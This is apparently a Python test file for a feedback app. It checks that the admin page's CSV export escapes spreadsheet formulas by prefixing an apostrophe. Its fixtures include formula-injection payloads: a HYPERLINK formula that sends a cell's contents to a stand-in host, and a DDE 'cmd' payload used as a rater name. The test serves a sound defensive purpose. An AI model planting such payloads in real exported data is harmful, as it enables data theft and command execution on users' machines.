"""The admin page's CSV export never hands a spreadsheet a formula: prompts and names that start one are
escaped with a leading apostrophe; other text is unchanged."""
from __future__ import annotations

import csv
import io

from feedback_app import logic
from pickloop.db import make_engine, read_session, upgrade, write_session
from pickloop.store import add_rater, candidates_of, record_judgement
from tests.core.helpers import make_ready_set

PROMPTS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(1,2)", "\tTAB", "a red circle"]


def test_csv_export_escapes_formula_prompts(tmp_path):
    engine = make_engine(f"sqlite:///{tmp_path / 'x.db'}")
    upgrade(engine)
    with write_session(engine) as s:
        rater, _ = add_rater(session=s, name="=cmd|' /C calc'!A0")
        for text in PROMPTS:
            comp = make_ready_set(s, None, prompt=text)
            ids = [c.id for c in candidates_of(session=s, comparison_id=comp.id)]
            record_judgement(session=s, comparison_id=comp.id, rater_id=rater.id, choice="pick", winner_id=ids[0],
                             shown_order=ids, idempotency_key=comp.key)
    with read_session(engine) as s:
        data, _, _ = logic.export_labels(session=s, fmt="csv")
    rows = list(csv.DictReader(io.StringIO(data.decode())))
    assert [r["prompt"] for r in rows] == ["'" + p for p in PROMPTS[:-1]] + ["a red circle"]
    assert {r["rater"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    engine.dispose()
